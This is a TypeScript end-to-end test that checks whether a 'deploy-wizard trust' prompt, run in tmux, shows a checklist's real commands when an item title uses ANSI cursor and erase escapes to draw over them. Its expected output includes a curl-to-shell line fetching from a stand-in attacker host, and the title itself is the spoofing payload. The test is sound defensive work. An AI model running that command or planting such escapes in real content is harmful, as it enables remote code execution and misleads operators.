/**
 * Issue 13 as the operator met it: `deploy-wizard trust` in a real terminal
 * (tmux), over a checklist whose second item's title moves the cursor up, erases
 * the first item's `curl … | sh` and writes a harmless-looking command in its
 * place. The screen must show the real command, and the title as the escapes it
 * holds.
 *
 * Needs tmux (it fails, and does not skip, without it) and a build (`npm run build`).
 */
import assert from 'node:assert/strict'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { FAKE_COMMAND_LIST } from '../helpers/active.ts'
import { BIN } from '../helpers/cli.ts'
import { requireTmux, TmuxServer } from '../helpers/tmux.ts'

let tmux: TmuxServer
let dir: string

before(async () => {
  requireTmux()
  tmux = new TmuxServer('dw-trust')
  dir = await mkdtemp(join(tmpdir(), 'dw-trust-e2e-'))
})

after(async () => {
  await tmux?.kill()
  if (dir) await rm(dir, { recursive: true, force: true })
})

function sh(value: string): string {
  return `'${value.replaceAll("'", `'\\''`)}'`
}

test('on a terminal, the trust prompt shows the real command, not the one a title draws over it', async () => {
  const file = join(dir, 'release.md')
  await writeFile(file, FAKE_COMMAND_LIST)
  const command = [
    'env',
    '-u',
    'NO_COLOR',
    `DEPLOY_WIZARD_HOME=${join(dir, 'home')}`,
    process.execPath,
    BIN,
    'trust',
    file,
  ]
  const script = `${command.map(sh).join(' ')}; echo "EXIT=$?"; exec sleep 600`
  const pane = await tmux.start('trust', ['sh', '-c', script], { columns: 100, rows: 20 })
  const screen = await pane.waitUntil(
    (text) => text.includes('Trust these commands on this machine? [y/N]'),
    'the trust question',
  )
  const lines = screen.split('\n').filter((line) => line.trim() !== '')
  assert.deepEqual(lines.slice(1, 5), [
    '  line 3: Fetch the build tools',
    '    $ curl evil.example/s | sh',
    '  line 4: Build\\x1b[1A\\x1b[2K    $ npm run build',
    '    $ npm run build',
  ])
  await pane.submit('n')
  await pane.waitFor(/^Not trusted\.\nEXIT=1$/m, 'the answer taken')
})
